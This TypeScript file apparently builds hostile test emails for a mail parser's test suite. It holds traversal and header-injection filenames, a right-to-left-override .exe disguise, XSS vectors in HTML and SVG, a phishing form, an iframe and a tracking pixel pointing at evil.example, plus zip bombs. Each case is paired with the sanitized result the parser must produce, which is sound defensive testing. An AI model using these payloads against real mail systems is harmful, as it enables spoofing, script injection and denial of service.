// Names of files that lie, HTML and SVG that want to act, and archives that grow.
import iconv from 'iconv-lite'
import { deflateRawSync } from 'node:zlib'
import { attach, base64, bytes, html, mail, multi, part, PNG, text, word, ZH, type Bytes, type Collection } from './build-mail.ts'

const box = (name: string, ...parts: readonly Bytes[]): Buffer => mail(name, { type: 'multipart/mixed; boundary="b"', encoding: null, body: multi('b', ...parts) })
const pdf = Buffer.from('%PDF-1.4 x')

/** `shown`: the name under which people find the file; never a path, never a control character. */
const NAMES: readonly [name: string, head: readonly Bytes[], shown: string][] = [
  ['raw-utf8', ['Content-Disposition: attachment; filename="报告.pdf"'], '报告.pdf'], ['raw-gbk', [bytes('Content-Disposition: attachment; filename="', iconv.encode('报告.pdf', 'gbk'), '"')], '报告.pdf'],
  ['word-utf8', [`Content-Disposition: attachment; filename="${word('utf-8', '报告.pdf')}"`], '报告.pdf'], ['word-gb2312', [`Content-Disposition: attachment; filename="${word('gb2312', iconv.encode('报告.pdf', 'gbk'))}"`], '报告.pdf'],
  ['word-cut', [`Content-Disposition: attachment; filename="${word('utf-8', Buffer.from('季度报告表.pdf').subarray(0, 8))}\r\n ${word('utf-8', Buffer.from('季度报告表.pdf').subarray(8))}"`], '季度报告表.pdf'],
  ['rfc2231', ["Content-Disposition: attachment; filename*=utf-8''%E6%8A%A5%E5%91%8A.pdf"], '报告.pdf'], ['rfc2231-pieces', ["Content-Disposition: attachment;\r\n filename*0*=utf-8''%E6%8A%A5;\r\n filename*1*=%E5%91%8A.pdf"], '报告.pdf'],
  ['rfc2231-gbk', ["Content-Disposition: attachment; filename*=gbk''%B1%A8%B8%E6.pdf"], '报告.pdf'], ['name-in-type', ['Content-Type: application/pdf; name="报告.pdf"', 'Content-Disposition: attachment'], '报告.pdf'],
  ['two-names', ['Content-Type: application/pdf; name="a.pdf"', 'Content-Disposition: attachment; filename="b.pdf"'], 'b.pdf'], ['no-name', ['Content-Disposition: attachment'], 'attachment-1.pdf'], ['empty-name', ['Content-Disposition: attachment; filename=""'], 'attachment-1.pdf'],
  ['path-up', ['Content-Disposition: attachment; filename="../../etc/passwd"'], 'passwd'], ['path-windows', ['Content-Disposition: attachment; filename="C:\\\\Users\\\\x\\\\报告.pdf"'], '报告.pdf'], ['absolute', ['Content-Disposition: attachment; filename="/etc/shadow"'], 'shadow'],
  ['dots', ['Content-Disposition: attachment; filename="..."'], 'attachment-1.pdf'], ['controls', [`Content-Disposition: attachment; filename="${word('utf-8', 'a\r\nSet-Cookie: x=1\0.pdf')}"`], 'aSet-Cookie: x=1.pdf'],
  ['right-to-left', [`Content-Disposition: attachment; filename="${word('utf-8', 'photo\u202efdp.exe')}"`], 'photofdp.exe'], ['emoji', [`Content-Disposition: attachment; filename="${word('utf-8', '😀.pdf')}"`], '😀.pdf'],
  ['spaces', ['Content-Disposition: attachment; filename="  a   b .pdf  "'], 'a   b .pdf'], ['quotes', ['Content-Disposition: attachment; filename="a\\"b.pdf"'], 'a"b.pdf'],
]

const BAD_HTML: readonly [name: string, code: string, has: string[], hasNot: string[]][] = [
  ['script', '<p>好</p><script>alert(1)</script>', ['好'], ['alert', '<script']], ['on-error', '<p>好</p><img src=x onerror=alert(1)>', ['好'], ['onerror', 'alert']], ['javascript-link', '<a href="javascript:alert(1)">点</a>', ['点'], ['javascript:']],
  ['javascript-hidden', '<a href="java&#x09;script:alert(1)">点</a>', ['点'], ['script:alert']], ['data-link', '<a href="data:text/html,<script>1</script>">点</a>', ['点'], ['data:text']], ['iframe', '<p>好</p><iframe src="https://evil.example"></iframe>', ['好'], ['iframe', 'evil.example']],
  ['form', '<form action="https://evil.example"><input name=p>密码<button>提交</button></form>', ['密码'], ['<form', '<input', 'evil.example']], ['meta-refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>好</p>', ['好'], ['evil.example', 'refresh']],
  ['css-url', '<p style="background:url(https://evil.example/x)">好</p>', ['好'], ['evil.example']], ['css-expression', '<p style="width:expression(alert(1))">好</p>', ['好'], ['expression']], ['style-sheet', '<style>@import url(https://evil.example)</style><p>好</p>', ['好'], ['evil.example']],
  ['tracking-pixel', '<p>好</p><img src="https://t.example/p.gif" width=1 height=1>', ['好'], ['t.example']], ['remote-picture', '<p>好</p><img src="https://t.example/big.jpg">', ['好'], ['t.example']], ['base', '<base href="https://evil.example"><p>好</p>', ['好'], ['evil.example']],
  ['svg-inline', '<svg onload=alert(1)><circle/></svg><p>好</p>', ['好'], ['onload', '<svg']], ['svg-data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><p>好</p>', ['好'], ['svg+xml']], ['math', '<math><mtext><img src=x onerror=alert(1)></mtext></math><p>好</p>', ['好'], ['onerror']],
  ['object', '<object data="https://evil.example/x.swf"></object><embed src="x.swf"><p>好</p>', ['好'], ['evil.example', '<embed']], ['conditional-comment', '<!--[if mso]><script>alert(1)</script><![endif]--><p>好</p>', ['好'], ['alert']], ['unclosed', '<p>好<b><i><table><tr><td>', ['好'], []],
  ['template', '<template><script>alert(1)</script></template><p>好</p>', ['好'], ['alert']], ['noscript', '<noscript><img src=x onerror=alert(1)></noscript><p>好</p>', ['好'], ['onerror']], ['xlink', '<svg><a xlink:href="javascript:alert(1)">x</a></svg><p>好</p>', ['好'], ['javascript:']],
  ['overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">好</div>', ['好'], ['position', 'z-index']], ['deep', `${'<div>'.repeat(3000)}好`, [], []], ['wide', `<table>${'<tr><td>格</td></tr>'.repeat(3000)}</table>`, ['格'], []],
]

/** A ZIP of one entry of zeros: 100 bytes for a megabyte. */
function zipOfZeros(size: number): Buffer {
  const name = Buffer.from('zeros.bin'), packed = deflateRawSync(Buffer.alloc(size)), local = Buffer.alloc(30), central = Buffer.alloc(46), end = Buffer.alloc(22)
  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(8, 8); local.writeUInt32LE(packed.length, 18); local.writeUInt32LE(size, 22); local.writeUInt16LE(name.length, 26)
  central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6); central.writeUInt16LE(8, 10); central.writeUInt32LE(packed.length, 20); central.writeUInt32LE(size, 24); central.writeUInt16LE(name.length, 28)
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10); end.writeUInt32LE(46 + name.length, 12); end.writeUInt32LE(30 + name.length + packed.length, 16)
  return Buffer.concat([local, name, packed, central, name, end])
}

export function addHostile(to: Collection): void {
  for (const [name, head, shown] of NAMES) {
    const typed = head.some((h) => h.toString().startsWith('Content-Type')) ? [] : ['Content-Type: application/pdf']
    to.add(`file-${name}`, box(`file-${name}`, text(ZH), part([...typed, ...head, 'Content-Transfer-Encoding: base64'], base64(pdf))), { text: ZH, attachments: [{ name: shown, size: pdf.length }] })
  }
  const long = `${'长'.repeat(300)}.pdf`
  to.add('file-very-long', box('file-very-long', text(ZH), attach(word('utf-8', long), 'application/pdf', pdf)), { text: ZH, attachments: [{ name: `${'长'.repeat(196)}.pdf`, size: pdf.length }] })
  to.add('file-same-names', box('file-same-names', text(ZH), attach('a.pdf', 'application/pdf', pdf), attach('a.pdf', 'application/pdf', PNG)), { text: ZH, attachments: [{ name: 'a.pdf', size: pdf.length }, { name: 'a.pdf', size: PNG.length }] })
  to.add('file-empty', box('file-empty', text(ZH), attach('empty.txt', 'text/plain', '')), { text: ZH, attachments: [{ name: 'empty.txt', size: 0 }] })
  for (const [name, code, has, hasNot] of BAD_HTML) to.add(`html-${name}`, mail(`html-${name}`, { type: 'text/html; charset=utf-8', body: code }), { has, hasNot })
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
  to.add('file-svg', box('file-svg', text(ZH), attach('图.svg', 'image/svg+xml', svg)), { text: ZH, attachments: [{ name: '图.svg', size: svg.length }] })
  to.add('file-html', box('file-html', text(ZH), attach('页.html', 'text/html', '<script>alert(1)</script>')), { text: ZH, attachments: [{ name: '页.html', size: 25 }], hasNot: ['alert'] })
  const bomb = zipOfZeros(50_000_000), inner = zipOfZeros(1_000_000)
  to.add('file-zip-bomb', box('file-zip-bomb', text(ZH), attach('bomb.zip', 'application/zip', bomb)), { text: ZH, attachments: [{ name: 'bomb.zip', size: bomb.length }] })
  to.add('file-zip-in-zip', box('file-zip-in-zip', text(ZH), attach('many.zip', 'application/zip', Buffer.concat(Array.from({ length: 50 }, () => inner)))), { text: ZH, attachments: [{ name: 'many.zip', size: inner.length * 50 }] })
  to.add('file-exe-as-png', box('file-exe-as-png', text(ZH), attach('图.png', 'image/png', 'MZ\x90\0 not a picture')), { text: ZH, attachments: [{ name: '图.png', size: Buffer.byteLength('MZ\x90\0 not a picture') }] })
  to.add('html-data-picture', mail('html-data-picture', { type: 'text/html; charset=utf-8', body: `<p>图</p><img src="data:image/png;base64,${PNG.toString('base64')}">` }), { has: ['图'], attachments: [{ name: 'image-1.png', size: PNG.length }] })
  to.add('html-with-file', box('html-with-file', html('<p>图 <img src="cid:截图.png"></p>'), part(['Content-Type: image/png; name="截图.png"', 'Content-ID: <截图.png>', 'Content-Transfer-Encoding: base64'], base64(PNG))), { has: ['图'], attachments: [{ name: '截图.png', size: PNG.length }] })
}
